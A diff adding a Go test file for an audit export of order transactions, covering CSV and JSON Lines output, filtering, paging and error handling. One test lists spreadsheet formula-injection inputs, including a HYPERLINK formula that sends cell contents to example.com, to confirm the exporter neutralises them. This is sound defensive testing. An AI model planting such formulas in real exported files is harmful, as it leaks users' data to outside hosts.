@@ -1,0 +1,218 @@
+package audit_test
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/stretchr/testify/require"
+
+	"dummyorders/domain/fraud"
+	"dummyorders/domain/ledger"
+	"dummyorders/domain/transaction"
+	"dummyorders/internal/audit"
+)
+
+var update = flag.Bool("update", false, "write testdata anew")
+
+// onRecord are transactions that fill every column, at times that stay.
+func onRecord(t *testing.T) *memory {
+	t.Helper()
+	text, err := os.ReadFile("testdata/records.jsonl")
+	require.NoError(t, err)
+	book := &memory{}
+	for line := range strings.Lines(string(text)) {
+		var r ledger.Record
+		require.NoError(t, json.Unmarshal([]byte(line), &r))
+		book.put(r)
+	}
+	return book
+}
+
+func export(t *testing.T, book *memory, q ledger.Query, format audit.Format) string {
+	t.Helper()
+	var out bytes.Buffer
+	written, err := audit.Export(t.Context(), book, q, format, &out)
+	require.NoError(t, err)
+	if lines := strings.Count(out.String(), "\n"); format == audit.JSONLines {
+		require.Equal(t, lines, written)
+	}
+	return out.String()
+}
+
+func TestTheCSVIsTheOneOnRecord(t *testing.T) {
+	got := export(t, onRecord(t), ledger.Query{}, audit.CSV)
+	if *update {
+		require.NoError(t, os.WriteFile("testdata/export.csv", []byte(got), 0o600))
+	}
+	want, err := os.ReadFile("testdata/export.csv")
+	require.NoError(t, err)
+	if diff := cmp.Diff(string(want), got); diff != "" {
+		t.Errorf("programs read these columns (-want +got):\n%s", diff)
+	}
+}
+
+func TestJSONLinesAreWholeRecordsTheNewestFirst(t *testing.T) {
+	want, err := os.ReadFile("testdata/records.jsonl")
+	require.NoError(t, err)
+	if diff := cmp.Diff(string(want), export(t, onRecord(t), ledger.Query{}, audit.JSONLines)); diff != "" {
+		t.Errorf("lines (-want +got):\n%s", diff)
+	}
+}
+
+func TestACellIsNoFormula(t *testing.T) {
+	for _, text := range []string{
+		`=HYPERLINK("http://example.com/?"&A1,"look")`, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1", "＋1", "－1", "＠1", "'=1",
+	} {
+		r := paid("1")
+		r.Order.Name = text
+		book := &memory{}
+		book.put(*r)
+		lines := readCSV(t, export(t, book, ledger.Query{}, audit.CSV))
+		if got := lines[0]["orderName"]; !strings.HasPrefix(got, "'") || strings.ReplaceAll(got[1:], "\r", "") != strings.ReplaceAll(text, "\r", "") {
+			t.Errorf("%q is written as %q, want it as it is, after an apostrophe", text, got)
+		}
+	}
+	for _, text := range []string{"", "book", "1-2", "a=b", "–dash", `say "hi", twice`, "two\nlines"} {
+		r := paid("1")
+		r.Order.Name = text
+		book := &memory{}
+		book.put(*r)
+		require.Equal(t, text, readCSV(t, export(t, book, ledger.Query{}, audit.CSV))[0]["orderName"])
+	}
+}
+
+func TestAnExportOfNothingHasAHeaderInCSVAlone(t *testing.T) {
+	header := export(t, &memory{}, ledger.Query{}, audit.CSV)
+	require.True(t, strings.HasPrefix(header, "transactionID,startTime,endTime,"), header)
+	require.Equal(t, 1, strings.Count(header, "\n"))
+	require.Empty(t, export(t, &memory{}, ledger.Query{}, audit.JSONLines))
+}
+
+func TestAnExportHoldsWhatWasAskedFor(t *testing.T) {
+	book := &memory{}
+	book.put(*paid("paid"))
+	book.put(*waiting("waiting"))
+	old := opened("old")
+	old.StartTime = after(-100)
+	book.put(*old)
+	for want, q := range map[string]ledger.Query{
+		"waiting paid old": {},
+		"waiting":          {Status: transaction.InReview},
+		"waiting paid":     {Outcome: fraud.Review},
+		"old":              {Until: start},
+		"":                 {Since: after(1)},
+	} {
+		var ids []string
+		for _, line := range readCSV(t, export(t, book, q, audit.CSV)) {
+			ids = append(ids, line["transactionID"])
+		}
+		require.Equal(t, want, strings.Join(ids, " "))
+	}
+}
+
+func TestAnExportGoesByPages(t *testing.T) {
+	book := &memory{}
+	for i := range 1200 {
+		book.put(*paid(fmt.Sprintf("%04d", i)))
+	}
+	lines := readCSV(t, export(t, book, ledger.Query{}, audit.CSV))
+	require.Len(t, lines, 1200)
+	for i, line := range lines {
+		require.Equal(t, fmt.Sprintf("%04d", 1199-i), line["transactionID"])
+	}
+}
+
+func TestAStoppedExportEndsWithAWholeLine(t *testing.T) {
+	book := &memory{}
+	for i := range 1000 {
+		book.put(*paid(fmt.Sprintf("%04d", i)))
+	}
+	for _, format := range []audit.Format{audit.CSV, audit.JSONLines} {
+		ctx, stop := context.WithCancel(t.Context())
+		out := &stopping{stop: stop}
+		written, err := audit.Export(ctx, book, ledger.Query{}, format, out)
+		require.ErrorIs(t, err, context.Canceled)
+		require.Less(t, written, 1000)
+		require.True(t, strings.HasSuffix(out.String(), "\n"))
+		if format == audit.CSV {
+			require.Len(t, readCSV(t, out.String()), written)
+			continue
+		}
+		lines := bufio.NewScanner(&out.Buffer)
+		for range written {
+			require.True(t, lines.Scan())
+			require.True(t, json.Valid(lines.Bytes()))
+		}
+	}
+}
+
+func TestAnExportThatCannotBeWrittenFails(t *testing.T) {
+	full := errors.New("no space left on device")
+	book := &memory{}
+	book.put(*paid("1"))
+	for _, format := range []audit.Format{audit.CSV, audit.JSONLines} {
+		_, err := audit.Export(t.Context(), book, ledger.Query{}, format, broken{full})
+		require.ErrorIs(t, err, full)
+	}
+	_, err := audit.Export(t.Context(), &memory{err: full}, ledger.Query{}, audit.CSV, &bytes.Buffer{})
+	require.ErrorIs(t, err, full)
+}
+
+// stopping stops whoever writes to it at the first piece.
+type stopping struct {
+	bytes.Buffer
+
+	stop func()
+}
+
+func (s *stopping) Write(piece []byte) (int, error) {
+	s.stop()
+	return s.Buffer.Write(piece)
+}
+
+type broken struct{ err error }
+
+func (b broken) Write([]byte) (int, error) { return 0, b.err }
+
+// readCSV gives the lines by the names of their columns.
+func readCSV(t *testing.T, text string) []map[string]string {
+	t.Helper()
+	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	require.NoError(t, err)
+	lines := make([]map[string]string, 0, len(all))
+	for _, cells := range all[1:] {
+		line := map[string]string{}
+		for i, name := range all[0] {
+			line[name] = cells[i]
+		}
+		lines = append(lines, line)
+	}
+	return lines
+}
+
+// The file of records is made once, and then stays: its times would be those of the day otherwise.
+func TestTheRecordsFillEveryColumn(t *testing.T) {
+	lines := readCSV(t, export(t, onRecord(t), ledger.Query{}, audit.CSV))
+	for name := range lines[0] {
+		filled := false
+		for _, line := range lines {
+			filled = filled || line[name] != ""
+		}
+		require.True(t, filled, name)
+	}
+	for _, line := range lines {
+		_, err := time.Parse(time.RFC3339, line["startTime"])
+		require.NoError(t, err)
+	}
+}
